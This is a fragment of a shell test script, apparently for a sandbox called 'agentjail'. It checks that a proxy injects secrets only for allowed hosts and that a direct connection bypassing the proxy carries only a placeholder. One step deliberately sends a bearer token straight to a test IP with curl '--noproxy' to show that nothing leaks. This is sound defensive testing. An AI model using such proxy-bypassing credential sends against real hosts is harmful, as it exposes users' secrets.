    q() { jq -c "select($1)" "$T/net.jsonl" | wc -l; }
    [ "$(q '.event == "secret_injected" and .where == "body"')" -eq 5 ] || fail "$(cat "$T/net.jsonl")"
    [ "$(q '.event == "proxy" and .status == 413')" -eq 2 ] || fail "$(cat "$T/net.jsonl")"
    # the 413s' header values went nowhere: no secret_injected line for them
    [ "$(q '.event == "secret_injected" and .where == "header X-Over"')" -eq 0 ] || fail "$(cat "$T/net.jsonl")"

    # --net open: proxy variables inside; through the proxy the value, a
    # direct connection (no proxy) carries only the placeholder
    arun --net open --secret "K@allowed.test=$value" -- sh -c '
        env | grep -c "^https\?_proxy=http://"
        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $K" http://allowed.test/open-proxy
        curl -sS -m 5 -o /dev/null --noproxy "*" -H "Authorization: Bearer $K" http://192.0.2.10/open-direct'
    assert_status 0
    assert_output_has_line 2
    [ "$(req /open-proxy | jq -r '.headers.Authorization')" = "Bearer $value" ] || fail "/open-proxy: $(req /open-proxy)"
    [[ "$(req /open-direct | jq -r '.headers.Authorization')" == "Bearer agentjail-placeholder-K-"* ]] ||
        fail "/open-direct: $(req /open-direct)"
}
